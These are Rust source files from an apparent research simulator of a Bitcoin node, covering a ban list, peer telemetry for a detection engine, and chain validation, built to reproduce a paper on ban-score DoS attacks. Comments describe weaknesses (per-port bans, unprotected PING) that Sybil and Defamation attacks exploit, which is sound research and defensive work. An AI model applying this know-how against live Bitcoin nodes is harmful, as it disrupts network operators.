        assert_eq!(am.entry(&addr(0, 0, 8333)).unwrap().first_seen, 0);
    }

    #[test]
    fn success_resets_failures() {
        let mut am = AddrMan::new();
        let a = addr(1, 1, 8333);
        am.add(0, a, AddrSource::Gossip);
        for _ in 0..5 {
            am.mark_failure(&a);
        }
        assert_eq!(am.entry(&a).unwrap().failures, 5);
        am.mark_success(7, &a);
        let e = am.entry(&a).unwrap();
        assert_eq!(e.failures, 0);
        assert_eq!(e.last_success, Some(7));
    }

    #[test]
    fn persistent_failures_remove_from_usable() {
        let mut am = AddrMan::new();
        let bm = BanMan::new();
        let a = addr(1, 1, 8333);
        am.add(0, a, AddrSource::Gossip);
        assert_eq!(am.usable_count(0, &bm), 1);
        for _ in 0..8 {
            am.mark_failure(&a);
        }
        assert_eq!(am.usable_count(0, &bm), 0);
    }

    #[test]
    fn bans_shrink_usable_set_and_diversity() {
        let mut am = AddrMan::new();
        let mut bm = BanMan::new();
        // Four addresses in three /16 groups.
        for (a, b) in [(0, 0), (0, 1), (1, 0), (2, 0)] {
            am.add(0, addr(a, b, 8333), AddrSource::Gossip);
        }
        assert_eq!(am.usable_count(0, &bm), 4);
        assert_eq!(am.diversity(0, &bm), 3);
        // Defame the whole 10.0.0.0/16 group.
        bm.ban(0, addr(0, 0, 8333));
        bm.ban(0, addr(0, 1, 8333));
        assert_eq!(am.usable_count(0, &bm), 2);
        assert_eq!(am.diversity(0, &bm), 2);
    }

    #[test]
    fn diversity_counts_distinct_slash16() {
        let mut am = AddrMan::new();
        let bm = BanMan::new();
        // Many ports of the same host: one netgroup.
        for port in 50_000..50_010 {
            am.add(0, addr(5, 5, port), AddrSource::Gossip);
        }
        assert_eq!(am.usable_count(0, &bm), 10);
        assert_eq!(am.diversity(0, &bm), 1);
    }
}
