//! # btc-node
//!
//! A from-scratch Bitcoin protocol node built on [`btc_netsim`]: version
//! handshake, full message processing for all 26 P2P message types, chain
//! state with PoW/merkle validation, a mempool, a CPU-share miner, and —
//! the subject of the reproduced paper — the **ban-score misbehavior
//! tracking mechanism** with the exact rule sets of Bitcoin Core 0.20.0,
//! 0.21.0 and 0.22.0 (Table I).
//!
//! The receive path copies Bitcoin Core's ordering (frame → checksum →
//! decode → handler → `Misbehaving()`), which is precisely what the
//! paper's BM-DoS vectors exploit.
//!
//! ```
//! use btc_node::banscore::{CoreVersion, Misbehavior};
//!
//! // PING carries no ban rule in any version: the classic BM-DoS message.
//! assert!(btc_node::banscore::unprotected_message_types(CoreVersion::V0_20)
//!     .contains(&"ping"));
//! // A mutated block costs 100 points in every version.
//! assert_eq!(Misbehavior::BlockMutated.penalty(CoreVersion::V0_22), Some(100));
//! ```

#![warn(missing_docs)]

pub mod addrman;
pub mod banman;
pub mod banscore;
pub mod chain;
pub mod cost;
pub mod mempool;
pub mod metrics;
pub mod node;
pub mod peer;

pub use addrman::AddrMan;
pub use banman::BanMan;
pub use banscore::{
    BanPolicy, CoreVersion, Misbehavior, MisbehaviorTracker, ReputationConfig, ReputationEngine,
    Tier,
};
pub use chain::Chain;
pub use mempool::Mempool;
pub use node::{Node, NodeConfig, PeerPolicy};
pub use peer::Peer;
