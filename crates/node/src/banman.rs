//! The ban list (`BanMan`): banned connection identifiers with expiry.
//!
//! Following the paper's observation, the ban object is the *connection
//! identifier* `[IP:Port]`, bans default to 24 hours, live only in this
//! node's memory, and are never gossiped. A banned identifier is refused at
//! TCP accept time; every *other* port of the same IP remains welcome —
//! which is exactly what the serial-Sybil and full-IP-Defamation attacks
//! exploit.

use btc_netsim::packet::SockAddr;
use btc_netsim::time::{Nanos, SECS};
use std::collections::BTreeMap;

/// One ban entry.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct BanEntry {
    /// When the ban was created.
    pub created: Nanos,
    /// When it expires.
    pub until: Nanos,
}

/// The ban list.
#[derive(Clone, Debug, Default)]
pub struct BanMan {
    bans: BTreeMap<SockAddr, BanEntry>,
    /// Log of (time, identifier) ban events, kept for the experiments.
    history: Vec<(Nanos, SockAddr)>,
    ban_duration: Nanos,
}

impl BanMan {
    /// Creates a ban list with the stock 24-hour duration.
    pub fn new() -> Self {
        BanMan {
            bans: BTreeMap::new(),
            history: Vec::new(),
            ban_duration: btc_wire::constants::DEFAULT_BANTIME_SECS * SECS,
        }
    }

    /// Creates a ban list with a custom duration (ablation benches).
    pub fn with_duration(ban_duration: Nanos) -> Self {
        BanMan {
            ban_duration,
            ..BanMan::new()
        }
    }

    /// Bans `peer` starting at `now`.
    pub fn ban(&mut self, now: Nanos, peer: SockAddr) {
        self.bans.insert(
            peer,
            BanEntry {
                created: now,
                until: now.saturating_add(self.ban_duration),
            },
        );
        self.history.push((now, peer));
    }

    /// Whether `peer` is banned at `now`.
    pub fn is_banned(&self, now: Nanos, peer: &SockAddr) -> bool {
        self.bans.get(peer).map(|b| now < b.until).unwrap_or(false)
    }

    /// Whether *any* port of `ip` is banned at `now` (diagnostic for the
    /// full-IP Defamation experiment).
    pub fn banned_ports_of(&self, now: Nanos, ip: [u8; 4]) -> usize {
        self.bans
            .iter()
            .filter(|(a, b)| a.ip == ip && now < b.until)
            .count()
    }

    /// Drops expired entries; returns how many were removed.
    pub fn sweep(&mut self, now: Nanos) -> usize {
        let before = self.bans.len();
        self.bans.retain(|_, b| now < b.until);
        before - self.bans.len()
    }

    /// Number of live entries (including not-yet-swept expired ones).
    pub fn len(&self) -> usize {
        self.bans.len()
    }

    /// Whether the list is empty.
    pub fn is_empty(&self) -> bool {
        self.bans.is_empty()
    }

    /// Chronological ban log.
    pub fn history(&self) -> &[(Nanos, SockAddr)] {
        &self.history
    }

    /// The configured ban duration.
    pub fn ban_duration(&self) -> Nanos {
        self.ban_duration
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use btc_netsim::time::HOURS;

    fn peer(last: u8, port: u16) -> SockAddr {
        SockAddr::new([10, 0, 0, last], port)
    }

    #[test]
    fn ban_lasts_24_hours() {
        let mut bm = BanMan::new();
        bm.ban(0, peer(1, 5000));
        assert!(bm.is_banned(0, &peer(1, 5000)));
        assert!(bm.is_banned(24 * HOURS - 1, &peer(1, 5000)));
        assert!(!bm.is_banned(24 * HOURS, &peer(1, 5000)));
    }

    #[test]
    fn ban_is_per_identifier_not_per_ip() {
        let mut bm = BanMan::new();
        bm.ban(0, peer(1, 5000));
        assert!(bm.is_banned(0, &peer(1, 5000)));
        // Same IP, different port: welcome (the Sybil loophole).
        assert!(!bm.is_banned(0, &peer(1, 5001)));
        // Different IP, same port: welcome.
        assert!(!bm.is_banned(0, &peer(2, 5000)));
    }

    #[test]
    fn sweep_removes_expired() {
        let mut bm = BanMan::with_duration(10);
        bm.ban(0, peer(1, 1));
        bm.ban(5, peer(2, 2));
        assert_eq!(bm.len(), 2);
        assert_eq!(bm.sweep(12), 1);
        assert_eq!(bm.len(), 1);
        assert!(bm.is_banned(12, &peer(2, 2)));
    }

    #[test]
    fn rebanning_extends() {
        let mut bm = BanMan::with_duration(10);
        bm.ban(0, peer(1, 1));
        bm.ban(8, peer(1, 1));
        assert!(bm.is_banned(15, &peer(1, 1)));
        assert!(!bm.is_banned(18, &peer(1, 1)));
        assert_eq!(bm.history().len(), 2);
    }

    #[test]
    fn banned_ports_counting() {
        let mut bm = BanMan::new();
        for port in 49152..49162 {
            bm.ban(0, peer(7, port));
        }
        bm.ban(0, peer(8, 49152));
        assert_eq!(bm.banned_ports_of(0, [10, 0, 0, 7]), 10);
        assert_eq!(bm.banned_ports_of(0, [10, 0, 0, 8]), 1);
        assert_eq!(bm.banned_ports_of(25 * HOURS, [10, 0, 0, 7]), 0);
    }
}
