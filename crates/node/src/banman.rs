//! The ban list (`BanMan`): banned connection identifiers with expiry.
//!
//! Following the paper's observation, the ban object is the *connection
//! identifier* `[IP:Port]`, bans default to 24 hours, live only in this
//! node's memory, and are never gossiped. A banned identifier is refused at
//! TCP accept time; every *other* port of the same IP remains welcome —
//! which is exactly what the serial-Sybil and full-IP-Defamation attacks
//! exploit.

use btc_netsim::packet::SockAddr;
use btc_netsim::time::{Nanos, SECS};
use std::collections::{BTreeMap, VecDeque};

/// Default cap on the in-memory ban-event log. Swarm-scale runs ban
/// thousands of Sybils; the log keeps the most recent events only, while
/// [`BanMan::total_bans`] keeps the lifetime count for the experiments.
pub const DEFAULT_HISTORY_CAP: usize = 4096;

/// One ban entry.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct BanEntry {
    /// When the ban was created.
    pub created: Nanos,
    /// When it expires.
    pub until: Nanos,
}

/// The ban list.
#[derive(Clone, Debug, Default)]
pub struct BanMan {
    bans: BTreeMap<SockAddr, BanEntry>,
    /// Ring of the most recent (time, identifier) ban events, kept for the
    /// experiments; bounded by `history_cap`.
    history: VecDeque<(Nanos, SockAddr)>,
    /// Lifetime count of ban events (including re-bans and events the
    /// capped ring has already evicted).
    total_bans: u64,
    history_cap: usize,
    ban_duration: Nanos,
}

impl BanMan {
    /// Creates a ban list with the stock 24-hour duration.
    pub fn new() -> Self {
        BanMan {
            bans: BTreeMap::new(),
            history: VecDeque::new(),
            total_bans: 0,
            history_cap: DEFAULT_HISTORY_CAP,
            ban_duration: btc_wire::constants::DEFAULT_BANTIME_SECS * SECS,
        }
    }

    /// Creates a ban list with a custom duration (ablation benches).
    pub fn with_duration(ban_duration: Nanos) -> Self {
        BanMan {
            ban_duration,
            ..BanMan::new()
        }
    }

    /// Caps the ban-event log at `cap` entries (0 disables recording).
    pub fn with_history_cap(mut self, cap: usize) -> Self {
        self.history_cap = cap;
        self.history.truncate(cap);
        self
    }

    /// Bans `peer` starting at `now`. Re-banning an already-banned peer
    /// extends `until` but preserves the original `created` time — the ban
    /// log and experiments rely on when the identifier was *first* banned.
    pub fn ban(&mut self, now: Nanos, peer: SockAddr) {
        let until = now.saturating_add(self.ban_duration);
        self.bans
            .entry(peer)
            .and_modify(|b| b.until = b.until.max(until))
            .or_insert(BanEntry { created: now, until });
        self.total_bans += 1;
        if self.history_cap > 0 {
            if self.history.len() == self.history_cap {
                self.history.pop_front();
            }
            self.history.push_back((now, peer));
        }
    }

    /// Whether `peer` is banned at `now`.
    pub fn is_banned(&self, now: Nanos, peer: &SockAddr) -> bool {
        self.bans.get(peer).map(|b| now < b.until).unwrap_or(false)
    }

    /// How many ports of `ip` are banned at `now` (diagnostic for the
    /// full-IP Defamation experiment). `SockAddr` orders by `(ip, port)`,
    /// so one `BTreeMap::range` walks exactly the entries of `ip` instead
    /// of scanning every ban.
    pub fn banned_ports_of(&self, now: Nanos, ip: [u8; 4]) -> usize {
        self.bans
            .range(SockAddr::new(ip, u16::MIN)..=SockAddr::new(ip, u16::MAX))
            .filter(|(_, b)| now < b.until)
            .count()
    }

    /// Drops expired entries; returns how many were removed.
    pub fn sweep(&mut self, now: Nanos) -> usize {
        let before = self.bans.len();
        self.bans.retain(|_, b| now < b.until);
        before - self.bans.len()
    }

    /// Number of stored entries: currently-live bans *plus* any expired
    /// entries [`BanMan::sweep`] has not removed yet.
    pub fn len(&self) -> usize {
        self.bans.len()
    }

    /// Whether the list is empty.
    pub fn is_empty(&self) -> bool {
        self.bans.is_empty()
    }

    /// Chronological log of the most recent ban events (capped ring; see
    /// [`BanMan::total_bans`] for the lifetime count).
    pub fn history(&self) -> &VecDeque<(Nanos, SockAddr)> {
        &self.history
    }

    /// Lifetime count of ban events, unaffected by the history cap.
    pub fn total_bans(&self) -> u64 {
        self.total_bans
    }

    /// The configured ban duration.
    pub fn ban_duration(&self) -> Nanos {
        self.ban_duration
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use btc_netsim::time::HOURS;

    fn peer(last: u8, port: u16) -> SockAddr {
        SockAddr::new([10, 0, 0, last], port)
    }

    #[test]
    fn ban_lasts_24_hours() {
        let mut bm = BanMan::new();
        bm.ban(0, peer(1, 5000));
        assert!(bm.is_banned(0, &peer(1, 5000)));
        assert!(bm.is_banned(24 * HOURS - 1, &peer(1, 5000)));
        assert!(!bm.is_banned(24 * HOURS, &peer(1, 5000)));
    }

    #[test]
    fn ban_is_per_identifier_not_per_ip() {
        let mut bm = BanMan::new();
        bm.ban(0, peer(1, 5000));
        assert!(bm.is_banned(0, &peer(1, 5000)));
        // Same IP, different port: welcome (the Sybil loophole).
        assert!(!bm.is_banned(0, &peer(1, 5001)));
        // Different IP, same port: welcome.
        assert!(!bm.is_banned(0, &peer(2, 5000)));
    }

    #[test]
    fn sweep_removes_expired() {
        let mut bm = BanMan::with_duration(10);
        bm.ban(0, peer(1, 1));
        bm.ban(5, peer(2, 2));
        assert_eq!(bm.len(), 2);
        assert_eq!(bm.sweep(12), 1);
        assert_eq!(bm.len(), 1);
        assert!(bm.is_banned(12, &peer(2, 2)));
    }

    #[test]
    fn rebanning_extends() {
        let mut bm = BanMan::with_duration(10);
        bm.ban(0, peer(1, 1));
        bm.ban(8, peer(1, 1));
        assert!(bm.is_banned(15, &peer(1, 1)));
        assert!(!bm.is_banned(18, &peer(1, 1)));
        assert_eq!(bm.history().len(), 2);
    }

    #[test]
    fn rebanning_preserves_created_and_never_shrinks_until() {
        let mut bm = BanMan::with_duration(10);
        bm.ban(5, peer(1, 1));
        bm.ban(8, peer(1, 1));
        let entry = *bm.bans.get(&peer(1, 1)).unwrap();
        // The original ban time survives the re-ban; only `until` moves.
        assert_eq!(entry.created, 5);
        assert_eq!(entry.until, 18);
        // A re-ban with an earlier `now` (e.g. a replayed strike) must not
        // shorten the existing ban.
        bm.ban(2, peer(1, 1));
        let entry = *bm.bans.get(&peer(1, 1)).unwrap();
        assert_eq!(entry.created, 5);
        assert_eq!(entry.until, 18);
        assert_eq!(bm.total_bans(), 3);
    }

    #[test]
    fn banned_ports_counting() {
        let mut bm = BanMan::new();
        for port in 49152..49162 {
            bm.ban(0, peer(7, port));
        }
        bm.ban(0, peer(8, 49152));
        assert_eq!(bm.banned_ports_of(0, [10, 0, 0, 7]), 10);
        assert_eq!(bm.banned_ports_of(0, [10, 0, 0, 8]), 1);
        assert_eq!(bm.banned_ports_of(25 * HOURS, [10, 0, 0, 7]), 0);
    }

    #[test]
    fn banned_ports_covers_port_extremes_and_ip_neighbors() {
        let mut bm = BanMan::new();
        // The range must include both port extremes of the queried IP and
        // exclude the lexicographic IP neighbors on either side.
        bm.ban(0, peer(7, u16::MIN));
        bm.ban(0, peer(7, u16::MAX));
        bm.ban(0, peer(6, u16::MAX));
        bm.ban(0, peer(8, u16::MIN));
        assert_eq!(bm.banned_ports_of(0, [10, 0, 0, 7]), 2);
        assert_eq!(bm.banned_ports_of(0, [10, 0, 0, 6]), 1);
        assert_eq!(bm.banned_ports_of(0, [10, 0, 0, 8]), 1);
        assert_eq!(bm.banned_ports_of(0, [10, 0, 0, 9]), 0);
    }

    #[test]
    fn history_is_a_capped_ring_with_lifetime_counter() {
        let mut bm = BanMan::with_duration(10).with_history_cap(3);
        for i in 0..5u64 {
            bm.ban(i, peer(1, 1000 + i as u16));
        }
        // Only the 3 most recent events remain, oldest evicted first.
        assert_eq!(bm.history().len(), 3);
        let times: Vec<Nanos> = bm.history().iter().map(|(t, _)| *t).collect();
        assert_eq!(times, vec![2, 3, 4]);
        // The lifetime counter still sees all 5 events, and the ban table
        // itself is unaffected by the log cap.
        assert_eq!(bm.total_bans(), 5);
        assert_eq!(bm.len(), 5);
        // Cap 0 disables recording entirely.
        let mut quiet = BanMan::with_duration(10).with_history_cap(0);
        quiet.ban(0, peer(2, 2));
        assert!(quiet.history().is_empty());
        assert_eq!(quiet.total_bans(), 1);
    }

    #[test]
    fn len_counts_expired_but_unswept_entries() {
        let mut bm = BanMan::with_duration(10);
        bm.ban(0, peer(1, 1));
        bm.ban(0, peer(2, 2));
        // Both bans expired at t=12, but len() includes them until sweep.
        assert!(!bm.is_banned(12, &peer(1, 1)));
        assert_eq!(bm.len(), 2);
        bm.sweep(12);
        assert_eq!(bm.len(), 0);
    }
}
