//! Node telemetry: the Monitor component of the paper's detection engine
//! taps these counters.
//!
//! Everything the three detection features need is recorded here:
//! per-message-type arrival timestamps (for the overall message rate `n`
//! and the count distribution `Λ`) and outbound-peer reconnection events
//! (for the reconnection rate `c`).

use btc_netsim::packet::SockAddr;
use btc_netsim::time::Nanos;

use crate::banscore::Tier;

/// Compact message-type index (position in
/// [`btc_wire::message::ALL_COMMANDS`]).
pub type MsgTypeId = u8;

/// Resolves a command string to its compact id.
pub fn msg_type_id(command: &str) -> Option<MsgTypeId> {
    btc_wire::message::ALL_COMMANDS
        .iter()
        .position(|c| *c == command)
        .map(|i| i as MsgTypeId)
}

/// Resolves a compact id back to its command string (`"?"` for an id
/// outside the table, so a corrupt record cannot panic a report).
pub fn msg_type_name(id: MsgTypeId) -> &'static str {
    btc_wire::message::ALL_COMMANDS
        .get(id as usize)
        .copied()
        .unwrap_or("?")
}

/// One received-message record.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct MsgRecord {
    /// Arrival time.
    pub time: Nanos,
    /// Message type.
    pub msg_type: MsgTypeId,
    /// Payload size in bytes.
    pub size: u32,
    /// Sender.
    pub from: SockAddr,
}

/// What happened in one [`TelemetryEvent`].
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum TelemetryEventKind {
    /// A message of the given type arrived.
    Message(MsgTypeId),
    /// An outbound reconnection was initiated after losing the peer.
    Reconnect,
    /// The trust-tier reputation engine moved the peer between tiers.
    TierChange {
        /// Tier before the transition.
        from: Tier,
        /// Tier after the transition.
        to: Tier,
    },
}

/// One event of the merged telemetry stream: the per-peer feed the
/// streaming detector consumes (see `btc_detect::serve`).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct TelemetryEvent {
    /// When it happened.
    pub time: Nanos,
    /// The peer it concerns (sender for messages, lost peer for
    /// reconnections).
    pub peer: SockAddr,
    /// What happened.
    pub kind: TelemetryEventKind,
}

/// One outbound-reconnection record (a replacement outbound connection was
/// initiated after losing one).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct ReconnectRecord {
    /// When the reconnection was initiated.
    pub time: Nanos,
    /// The peer that was lost.
    pub lost: SockAddr,
}

/// One tier-transition record from the trust-tier reputation engine.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct TierChangeRecord {
    /// When the transition happened.
    pub time: Nanos,
    /// The peer that moved.
    pub peer: SockAddr,
    /// Tier before the transition.
    pub from: Tier,
    /// Tier after the transition.
    pub to: Tier,
}

/// The full telemetry log of a node.
#[derive(Clone, Debug, Default)]
pub struct Telemetry {
    /// Every accepted (checksum-valid, decodable) message.
    pub messages: Vec<MsgRecord>,
    /// Outbound reconnection events.
    pub reconnects: Vec<ReconnectRecord>,
    /// Tier transitions from the trust-tier reputation engine (empty under
    /// the stock policy).
    pub tier_changes: Vec<TierChangeRecord>,
    /// Frames dropped for a bad Bitcoin-header checksum.
    pub bad_checksum_frames: u64,
    /// Frames dropped as undecodable/unknown.
    pub undecodable_frames: u64,
    /// Peers disconnected by the ban mechanism.
    pub bans: u64,
    /// Inbound connections refused because the identifier was banned.
    pub refused_banned: u64,
    /// Peers moved into the graylist soft-ban (trust-tier policy only).
    pub graylists: u64,
    /// Frames dropped by the graylist service rate limit.
    pub graylist_dropped: u64,
}

impl Telemetry {
    /// Records a message arrival.
    pub fn record_message(&mut self, time: Nanos, msg_type: MsgTypeId, size: u32, from: SockAddr) {
        self.messages.push(MsgRecord {
            time,
            msg_type,
            size,
            from,
        });
    }

    /// Records an outbound reconnection.
    pub fn record_reconnect(&mut self, time: Nanos, lost: SockAddr) {
        self.reconnects.push(ReconnectRecord { time, lost });
    }

    /// Records a tier transition.
    pub fn record_tier_change(&mut self, time: Nanos, peer: SockAddr, from: Tier, to: Tier) {
        self.tier_changes.push(TierChangeRecord {
            time,
            peer,
            from,
            to,
        });
    }

    /// Tier transitions within `[start, end)`.
    pub fn tier_changes_in_window(&self, start: Nanos, end: Nanos) -> u64 {
        self.tier_changes
            .iter()
            .filter(|t| t.time >= start && t.time < end)
            .count() as u64
    }

    /// Counts messages per type within `[start, end)`, indexed by
    /// [`MsgTypeId`].
    pub fn counts_in_window(&self, start: Nanos, end: Nanos) -> [u64; 26] {
        let mut out = [0u64; 26];
        for m in &self.messages {
            if m.time >= start && m.time < end {
                if let Some(slot) = out.get_mut(m.msg_type as usize) {
                    *slot += 1;
                }
            }
        }
        out
    }

    /// Total messages within `[start, end)`.
    pub fn total_in_window(&self, start: Nanos, end: Nanos) -> u64 {
        self.messages
            .iter()
            .filter(|m| m.time >= start && m.time < end)
            .count() as u64
    }

    /// Reconnections within `[start, end)`.
    pub fn reconnects_in_window(&self, start: Nanos, end: Nanos) -> u64 {
        self.reconnects
            .iter()
            .filter(|r| r.time >= start && r.time < end)
            .count() as u64
    }

    /// The merged, time-ordered event stream within `[start, end)`: the
    /// recorded traffic a streaming detector replays message by message.
    ///
    /// All source logs are already in arrival order (the node appends as
    /// simulation time advances); the merge keeps that order and breaks
    /// exact-timestamp ties deterministically (messages, then
    /// reconnections, then tier changes), so replaying the stream is
    /// reproducible.
    pub fn events_in_window(&self, start: Nanos, end: Nanos) -> Vec<TelemetryEvent> {
        let msgs = self
            .messages
            .iter()
            .filter(|m| m.time >= start && m.time < end)
            .map(|m| TelemetryEvent {
                time: m.time,
                peer: m.from,
                kind: TelemetryEventKind::Message(m.msg_type),
            });
        let recs = self
            .reconnects
            .iter()
            .filter(|r| r.time >= start && r.time < end)
            .map(|r| TelemetryEvent {
                time: r.time,
                peer: r.lost,
                kind: TelemetryEventKind::Reconnect,
            });
        let tiers = self
            .tier_changes
            .iter()
            .filter(|t| t.time >= start && t.time < end)
            .map(|t| TelemetryEvent {
                time: t.time,
                peer: t.peer,
                kind: TelemetryEventKind::TierChange {
                    from: t.from,
                    to: t.to,
                },
            });
        let mut out: Vec<TelemetryEvent> = msgs.chain(recs).chain(tiers).collect();
        // Stable sort: same-timestamp events keep message-before-reconnect-
        // before-tier-change order from the chain above.
        out.sort_by_key(|e| e.time);
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use btc_netsim::time::SECS;

    fn from(last: u8) -> SockAddr {
        SockAddr::new([10, 0, 0, last], 8333)
    }

    #[test]
    fn type_ids_roundtrip() {
        for (i, cmd) in btc_wire::message::ALL_COMMANDS.iter().enumerate() {
            assert_eq!(msg_type_id(cmd), Some(i as u8));
            assert_eq!(msg_type_name(i as u8), *cmd);
        }
        assert_eq!(msg_type_id("bogus"), None);
    }

    #[test]
    fn window_counts() {
        let mut t = Telemetry::default();
        let ping = msg_type_id("ping").unwrap();
        let tx = msg_type_id("tx").unwrap();
        t.record_message(SECS, ping, 8, from(1));
        t.record_message(2 * SECS, ping, 8, from(1));
        t.record_message(3 * SECS, tx, 250, from(2));
        t.record_message(10 * SECS, ping, 8, from(1));
        let counts = t.counts_in_window(0, 5 * SECS);
        assert_eq!(counts[ping as usize], 2);
        assert_eq!(counts[tx as usize], 1);
        assert_eq!(t.total_in_window(0, 5 * SECS), 3);
        assert_eq!(t.total_in_window(0, 11 * SECS), 4);
        // Window end is exclusive.
        assert_eq!(t.total_in_window(0, 10 * SECS), 3);
    }

    #[test]
    fn reconnect_windows() {
        let mut t = Telemetry::default();
        t.record_reconnect(SECS, from(9));
        t.record_reconnect(70 * SECS, from(9));
        assert_eq!(t.reconnects_in_window(0, 60 * SECS), 1);
        assert_eq!(t.reconnects_in_window(60 * SECS, 120 * SECS), 1);
    }

    #[test]
    fn event_stream_merges_in_time_order() {
        let mut t = Telemetry::default();
        let ping = msg_type_id("ping").unwrap();
        let tx = msg_type_id("tx").unwrap();
        t.record_message(SECS, ping, 8, from(1));
        t.record_message(3 * SECS, tx, 250, from(2));
        // Reconnect shares a timestamp with a message: message comes first.
        t.record_reconnect(3 * SECS, from(2));
        t.record_reconnect(2 * SECS, from(1));
        t.record_message(10 * SECS, ping, 8, from(1));
        let events = t.events_in_window(0, 10 * SECS);
        assert_eq!(events.len(), 4);
        let times: Vec<Nanos> = events.iter().map(|e| e.time).collect();
        assert_eq!(times, vec![SECS, 2 * SECS, 3 * SECS, 3 * SECS]);
        assert_eq!(events[2].kind, TelemetryEventKind::Message(tx));
        assert_eq!(events[3].kind, TelemetryEventKind::Reconnect);
        assert_eq!(events[3].peer, from(2));
        // Window end is exclusive.
        assert_eq!(t.events_in_window(0, 11 * SECS).len(), 5);
    }

    #[test]
    fn tier_changes_merge_after_same_time_events() {
        let mut t = Telemetry::default();
        let ping = msg_type_id("ping").unwrap();
        t.record_message(SECS, ping, 8, from(1));
        t.record_tier_change(SECS, from(1), Tier::Normal, Tier::Probation);
        t.record_tier_change(5 * SECS, from(1), Tier::Probation, Tier::Graylist);
        let events = t.events_in_window(0, 10 * SECS);
        assert_eq!(events.len(), 3);
        // Same timestamp: the message sorts before the tier change.
        assert_eq!(events[0].kind, TelemetryEventKind::Message(ping));
        assert_eq!(
            events[1].kind,
            TelemetryEventKind::TierChange {
                from: Tier::Normal,
                to: Tier::Probation,
            }
        );
        assert_eq!(t.tier_changes_in_window(0, 5 * SECS), 1);
        assert_eq!(t.tier_changes_in_window(0, 6 * SECS), 2);
    }
}
