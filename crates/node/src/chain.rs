//! Chain state: header tree, block store, invalid-block cache and the
//! acceptance verdicts the `BLOCK` ban-score rules key off.

use btc_wire::block::{Block, BlockHeader};
use btc_wire::constants::REGTEST_BITS;
use btc_wire::tx::Transaction;
use btc_wire::types::Hash256;
use std::collections::{BTreeMap, BTreeSet};

/// Why a block was (or wasn't) accepted — each variant maps onto a Table-I
/// `BLOCK` rule or a success path.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum BlockVerdict {
    /// New valid block extending a known header; stored.
    Accepted {
        /// Height in the tree.
        height: u64,
        /// Whether it became the new tip.
        new_tip: bool,
    },
    /// Already have it.
    Duplicate,
    /// Intrinsically invalid (bad PoW, mutated merkle root, bad txs) — the
    /// "block data was mutated" rule, +100 any peer.
    Mutated(&'static str),
    /// Previously marked invalid — "cached as invalid", +100 outbound peer.
    CachedInvalid,
    /// Builds on a known-invalid block — "previous block is invalid", +100.
    PrevInvalid,
    /// Builds on an unknown block — "previous block is missing", +10.
    PrevMissing,
}

/// Why a header was (or wasn't) accepted.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum HeaderVerdict {
    /// Accepted (possibly already known).
    Accepted {
        /// Height in the tree.
        height: u64,
    },
    /// Bad proof of work.
    BadPow,
    /// Parent unknown.
    Unconnected,
    /// Parent known-invalid.
    PrevInvalid,
}

/// The node's view of the block chain.
#[derive(Clone, Debug)]
pub struct Chain {
    genesis: Hash256,
    headers: BTreeMap<Hash256, (BlockHeader, u64)>,
    blocks: BTreeMap<Hash256, Block>,
    children: BTreeMap<Hash256, Vec<Hash256>>,
    invalid: BTreeSet<Hash256>,
    tip: Hash256,
    tip_height: u64,
}

impl Chain {
    /// Creates a chain rooted at the deterministic regtest genesis block.
    pub fn new() -> Self {
        let genesis = genesis_block();
        let gh = genesis.hash();
        let mut headers = BTreeMap::new();
        headers.insert(gh, (genesis.header, 0));
        let mut blocks = BTreeMap::new();
        blocks.insert(gh, genesis);
        Chain {
            genesis: gh,
            headers,
            blocks,
            children: BTreeMap::new(),
            invalid: BTreeSet::new(),
            tip: gh,
            tip_height: 0,
        }
    }

    /// The genesis hash.
    pub fn genesis_hash(&self) -> Hash256 {
        self.genesis
    }

    /// Current tip hash.
    pub fn tip(&self) -> Hash256 {
        self.tip
    }

    /// Current tip height.
    pub fn height(&self) -> u64 {
        self.tip_height
    }

    /// Whether the header for `hash` is known.
    pub fn has_header(&self, hash: &Hash256) -> bool {
        self.headers.contains_key(hash)
    }

    /// Whether the full block for `hash` is stored.
    pub fn has_block(&self, hash: &Hash256) -> bool {
        self.blocks.contains_key(hash)
    }

    /// Fetches a stored block.
    pub fn block(&self, hash: &Hash256) -> Option<&Block> {
        self.blocks.get(hash)
    }

    /// Height of a known header.
    pub fn header_height(&self, hash: &Hash256) -> Option<u64> {
        self.headers.get(hash).map(|(_, h)| *h)
    }

    /// Whether `hash` is marked invalid.
    pub fn is_invalid(&self, hash: &Hash256) -> bool {
        self.invalid.contains(hash)
    }

    /// Number of stored blocks (including genesis).
    pub fn block_count(&self) -> usize {
        self.blocks.len()
    }

    /// Processes a standalone header (from a `HEADERS` message).
    pub fn accept_header(&mut self, header: &BlockHeader) -> HeaderVerdict {
        let hash = header.hash();
        if let Some((_, h)) = self.headers.get(&hash) {
            return HeaderVerdict::Accepted { height: *h };
        }
        if !header.check_pow() {
            return HeaderVerdict::BadPow;
        }
        if self.invalid.contains(&header.prev_block) {
            return HeaderVerdict::PrevInvalid;
        }
        let Some((_, parent_height)) = self.headers.get(&header.prev_block) else {
            return HeaderVerdict::Unconnected;
        };
        let height = parent_height + 1;
        self.headers.insert(hash, (*header, height));
        self.children
            .entry(header.prev_block)
            .or_default()
            .push(hash);
        HeaderVerdict::Accepted { height }
    }

    /// Processes a full block (from a `BLOCK` message).
    pub fn accept_block(&mut self, block: &Block) -> BlockVerdict {
        let hash = block.hash();
        if self.invalid.contains(&hash) {
            return BlockVerdict::CachedInvalid;
        }
        if self.blocks.contains_key(&hash) {
            return BlockVerdict::Duplicate;
        }
        if let Err(reason) = block.check() {
            self.invalid.insert(hash);
            return BlockVerdict::Mutated(reason);
        }
        if self.invalid.contains(&block.header.prev_block) {
            self.invalid.insert(hash);
            return BlockVerdict::PrevInvalid;
        }
        let Some((_, parent_height)) = self.headers.get(&block.header.prev_block) else {
            return BlockVerdict::PrevMissing;
        };
        let height = parent_height + 1;
        self.headers.insert(hash, (block.header, height));
        self.children
            .entry(block.header.prev_block)
            .or_default()
            .push(hash);
        self.blocks.insert(hash, block.clone());
